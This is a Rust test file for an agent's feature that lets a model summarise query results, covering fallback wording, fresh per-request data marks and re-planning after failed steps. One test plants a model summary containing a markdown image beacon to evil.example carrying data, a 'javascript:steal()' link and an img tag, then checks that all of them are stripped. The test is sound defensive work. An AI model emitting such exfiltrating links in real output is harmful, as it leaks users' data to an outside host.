//! Summaries and second plans: only where they are allowed, and harmless.

use std::sync::Mutex as Lock;

use fes_agent::llm::{Deltas, Meter};
use fes_agent::privacy::{Summaries, SummaryRules};
use fes_agent::report::{Report, Telling, Told};
use pretty_assertions::assert_eq;
use sisense_core::ErrorKind;
use sisense_core::run::CancellationToken;

use super::*;

fn on() -> Summaries {
    SummaryRules { allowed: true, toggle: true }.for_turn(Some(true))
}

async fn report(room: &Room) -> Report {
    match room.ask("list all users").await {
        Outcome::Done(report) => *report,
        other => panic!("{other:?}"),
    }
}

async fn tell(room: &Room, report: &Report, summaries: Summaries, lines: Option<Deltas>) -> Told {
    let telling = Telling {
        model: room.model.as_ref(),
        summaries,
        meter: Meter::default(),
        cancel: CancellationToken::new(),
        lines,
    };
    report.told("list all users", &telling).await
}

fn script(summary: &'static str) -> Arc<Script> {
    let users = plan(json!([call("access.get_users_all", json!({}))])).to_string();
    Script::texts(vec![users, summary.to_owned()])
}

#[tokio::test]
async fn off_a_report_is_told_in_our_own_words_and_no_model_is_asked() {
    let room = Room::open(script("There are 14 users.")).await;
    let report = report(&room).await;
    let told = tell(&room, &report, Summaries::default(), None).await;
    assert_eq!(
        (told.text.as_str(), told.by_model, told.error),
        (report.summary.as_str(), false, None)
    );
    assert_eq!(room.model.calls(), 1);
}

#[tokio::test]
async fn on_a_model_tells_it_from_exact_counts() {
    let room = Room::open(script("There are 14 users.")).await;
    let report = report(&room).await;
    let told = tell(&room, &report, on(), None).await;
    assert_eq!((told.text.as_str(), told.by_model), ("There are 14 users.", true));
    let seen = room.model.seen().remove(1);
    let mark = seen.split("<data ").nth(1).unwrap().split('>').next().unwrap().to_owned();
    assert_eq!(mark.len(), 24);
    insta::assert_snapshot!(seen.replace(&mark, "MARK"));
}

#[tokio::test]
async fn two_requests_have_two_marks() {
    let room = Room::open(script("ok")).await;
    let report = report(&room).await;
    tell(&room, &report, on(), None).await;
    tell(&room, &report, on(), None).await;
    let seen = room.model.seen();
    assert_ne!(seen[1], seen[2]);
}

#[tokio::test]
async fn a_summary_that_fails_is_replaced_by_our_own_words() {
    for ending in [Ending::Refused, Ending::Filtered, Ending::Done] {
        let room = Room::open(Script::new(move |call, _| {
            let users = plan(json!([super::call("access.get_users_all", json!({}))]));
            Ok(if call == 0 { reply(&users.to_string()) } else { Reply { ending, ..reply(" ") } })
        }))
        .await;
        let report = report(&room).await;
        let told = tell(&room, &report, on(), None).await;
        assert_eq!((told.text.as_str(), told.by_model), (report.summary.as_str(), false));
        assert!(told.error.is_some());
    }
}

#[tokio::test]
async fn hostile_words_of_a_summary_are_harmless_as_a_whole_and_line_by_line() {
    let words = "14 users ![x](https://evil.example/?d=vera)\n[more](javascript:steal())\n\
                 <img src=//evil.example/a.png>\nplain end";
    let room = Room::open(script(words)).await;
    let report = report(&room).await;
    let lines = Arc::new(Lock::new(String::new()));
    let to = Arc::clone(&lines);
    let sink: Deltas = Arc::new(move |line: &str| to.lock().unwrap().push_str(line));
    let told = tell(&room, &report, on(), Some(sink)).await;
    let streamed = lines.lock().unwrap().clone();
    assert_eq!(streamed.trim_end(), told.text);
    for shown in [streamed, told.text] {
        for bad in ["evil.example", "javascript:", "](", "<img", "![", "://"] {
            assert!(!shown.contains(bad), "{bad} in {shown}");
        }
        assert!(shown.contains("14 users") && shown.contains("plain end"), "{shown}");
    }
}

#[tokio::test]
async fn a_failed_step_is_planned_again_only_where_results_may_be_shown() {
    let gone = plan(json!([call("access.get_user", json!({ "user_name": "gone@acme.example" }))]));
    let other = plan(json!([call("access.get_users_all", json!({}))]));
    let texts = vec![gone.to_string(), other.to_string()];
    let room = Room::open(Script::texts(texts)).await;
    let outcome = room.ask("show gone@acme.example").await;
    let Outcome::Done(report) = outcome else { panic!("{outcome:?}") };
    assert!(!report.ok);
    for (summaries, calls) in [(Summaries::default(), 1), (on(), 2)] {
        let context = Context { summaries, ..Context::default() };
        let again = room
            .agent
            .plan_again(&session(), "show gone@acme.example", &[], &context, &report)
            .await
            .unwrap();
        assert_eq!((again.is_some(), room.model.calls()), (calls == 2, calls));
    }
    let seen = room.model.seen().remove(1);
    assert!(seen.contains("step 1: access.get_user: not done, not_found"), "{seen}");
    assert!(seen.contains("error: no user fits this reference"), "{seen}");
}

#[tokio::test]
async fn a_stopped_summary_is_an_error_of_its_own_kind() {
    let room = Room::open(Script::new(|call, _| match call {
        0 => Ok(reply(&plan(json!([super::call("access.get_users_all", json!({}))])).to_string())),
        _ => Err(Error::new(ErrorKind::Cancelled, "stopped")),
    }))
    .await;
    let report = report(&room).await;
    let told = tell(&room, &report, on(), None).await;
    assert_eq!(told.error.map(|error| error.kind), Some(ErrorKind::Cancelled));
}
